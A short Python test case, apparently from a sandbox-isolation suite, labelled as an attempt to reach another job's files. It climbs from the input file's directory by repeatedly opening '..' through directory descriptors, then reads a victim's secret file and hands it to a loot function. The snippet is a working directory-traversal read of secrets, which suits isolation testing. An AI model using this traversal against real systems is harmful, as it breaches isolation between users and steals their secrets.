# kind: other_jobs
# tries: Walk up by openat on a directory descriptor

import os

fd = os.open(os.path.dirname(os.environ["INPUT_FILE_PATH"]), os.O_RDONLY | os.O_DIRECTORY)
for _ in range(30):
    fd = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
loot(os.read(os.open(VICTIM["secret"][1:], os.O_RDONLY, dir_fd=fd), 200).decode())
